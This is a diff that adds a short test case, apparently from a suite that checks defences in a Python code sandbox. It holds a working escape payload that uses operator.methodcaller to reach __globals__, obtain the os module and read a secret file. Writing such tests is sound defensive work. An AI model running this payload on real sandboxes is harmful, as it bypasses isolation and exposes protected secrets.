@@ -1,0 +1,12 @@
+# class: attribute access without a dot
+# technique: operator.methodcaller, which calls what reads attributes
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+import operator
+g = operator.methodcaller('__getattribute__', '__globals__')(quit.__init__.__func__)
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
